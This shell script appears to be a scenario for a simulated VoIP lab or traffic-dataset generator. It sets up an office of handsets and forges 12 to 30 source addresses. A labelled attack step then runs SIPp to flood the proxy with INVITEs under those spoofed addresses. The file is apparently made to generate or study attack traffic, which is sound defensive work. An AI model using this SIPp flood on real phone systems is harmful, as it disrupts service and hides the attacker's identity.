# A flood of INVITEs for several phones, under addresses that are not the sender's. Phones ring.
draw_place
open_office
add_handsets 8 1.2 '' "\"lines\":$(drawn lines 3 8),\"ring\":$(drawn ring 2 6)"
add_attacker spoofer "$(stranger spoofer)"
sources=()
for n in $(seq "$(drawn sources 12 30)"); do sources+=("$FOREIGN.$((100 + n * 4 + $(drawn "source$n" 0 3)))"); done
spoof spoofer "${sources[@]}"
awk -F';' -v b="$BLOCK" 'NR == 1 {print; next} {print $0 b (20 + NR * 3 % 7) ";"}' "$scratch/sources.csv" >"$scratch/forged.csv"
sed "s#User-Agent: .*#User-Agent: $(product flooder)#; s/\[service\]/[field2]/g" "$parts/sipp/flood-spoofed.xml" >"$scratch/flood.xml"
rate=$(drawn rate 15 40) count=$(drawn count 100 160)
begin
ordinary_day 36
at 15 attack A1 invite_flood spoofer 5060 "SIPp sends $count INVITEs, $rate a second, for seven phones, under ${#sources[@]} addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none -t ui -max_socket 500 \
    -ip_field 0 -inf "$scratch/forged.csv" -cid_str "%u-%p" -i "${address_of[spoofer]}" -mi "${address_of[spoofer]}" -p 5060 \
    -r "$rate" -m "$count" "$PROXY:5060"
finish A1
